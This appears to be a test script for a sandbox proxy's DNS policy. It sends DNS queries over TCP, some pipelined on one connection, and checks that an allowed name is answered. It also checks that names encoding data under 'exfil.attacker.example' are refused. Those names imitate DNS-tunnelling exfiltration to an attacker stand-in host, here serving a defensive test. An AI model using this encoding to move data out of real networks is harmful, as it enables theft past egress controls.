# what: DNS over TCP (port 53): still proxyd's DNS, an allowed name answered, a data-carrying name refused, a pipelined pair on one connection
# include: dns
# expect-allowed: allowed.test dns
# inet: allow allowed.test
# expect-denied: tcp1-6c65616b.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: tcp2-6c65616b.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: tcp3-6c65616b.exfil.attacker.example 53 dns not_allowlisted
# expect-stdout: DONE 4 ok
import os, random, socket, struct


# TCP to port 53 anywhere is redirected to proxyd's DNS server, like UDP:
# the same policy, and the refused names never reach dnsmasq.
import socket
import struct

ok = 0
try:
    rcode, an = dns_query("allowed.test", tcp=True)
    if rcode == 0 and an >= 1:
        ok += 1
        print("OK allowed.test answered over TCP")
    else:
        print("FAIL allowed.test rcode", rcode, "answers", an)
except OSError as e:
    print("FAIL allowed.test over TCP:", e)
try:
    rcode, an = dns_query("tcp1-6c65616b.exfil.attacker.example", tcp=True)
    if rcode == 3 and an == 0:
        ok += 1
        print("BLOCKED tcp1 NXDOMAIN")
    else:
        print("LEAK tcp1 rcode", rcode, "answers", an)
except OSError as e:
    print("LEAK? tcp1 no answer:", e)


def q(qid, name):
    m = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        m += bytes([len(label)]) + label.encode()
    m += b"\0" + struct.pack(">HH", 1, 1)
    return struct.pack(">H", len(m)) + m


# Two queries in one write: each is judged, each answered in turn.
s = socket.create_connection(("198.18.0.2", 53), timeout=10)
s.sendall(q(1, "tcp2-6c65616b.exfil.attacker.example") +
          q(2, "tcp3-6c65616b.exfil.attacker.example"))
buf = b""
while True:
    try:
        chunk = s.recv(4096)
    except OSError:
        break
    if not chunk:
        break
    buf += chunk
    if len(buf) >= 4 and len(buf) >= 2 + struct.unpack(">H", buf[:2])[0] + 2:
        first = 2 + struct.unpack(">H", buf[:2])[0]
        if len(buf) >= first + 2 + struct.unpack(">H", buf[first:first + 2])[0]:
            break
s.close()
while len(buf) >= 2:
    n = struct.unpack(">H", buf[:2])[0]
    m, buf = buf[2:2 + n], buf[2 + n:]
    qid, rcode, an = struct.unpack(">H", m[:2])[0], m[3] & 0xF, struct.unpack(">H", m[6:8])[0]
    if rcode == 3 and an == 0:
        ok += 1
        print("BLOCKED pipelined", qid, "NXDOMAIN")
    else:
        print("LEAK pipelined", qid, "rcode", rcode, "answers", an)
print("DONE", ok, "ok")
